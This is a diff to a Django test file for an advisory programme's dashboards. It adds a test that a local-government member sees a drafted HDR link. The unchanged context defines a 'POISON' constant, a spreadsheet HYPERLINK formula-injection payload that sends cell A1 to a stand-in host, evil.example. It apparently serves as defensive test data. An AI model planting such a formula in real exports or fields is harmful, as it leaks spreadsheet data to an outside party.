@@ -25,7 +25,7 @@ from ..selectors import dashboards
 from ..services import support_log
 from ..services.programme_settings import programme_settings_save
 from .factories import CallFactory, engagement_with_team, support_area, support_form
-from .hdr_helpers import drafted_hdr, published_hdr
+from .hdr_helpers import drafted_hdr, lg_member_of, published_hdr
 
 pytestmark = pytest.mark.django_db
 POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -340,3 +340,13 @@ def test_the_page_shows_the_experts_and_local_governments_with_the_most_hours(co
     assert engagements[1].local_government.name in hours_section
     assert engagements[0].local_government.name not in hours_section
     assert "Only the 1 with the most hours is shown here" in body
+
+
+def test_the_local_government_sees_our_hdr_on_its_dashboard(client):
+    hdr = drafted_hdr()
+    member = lg_member_of(hdr.engagement)
+    client.force_login(member)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    body = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD).content.decode()
+    assert reverse("advisory:hdr", args=[hdr.engagement.pk]) in body
+    assert "Development action schedule (HDR)</a>: draft" in body
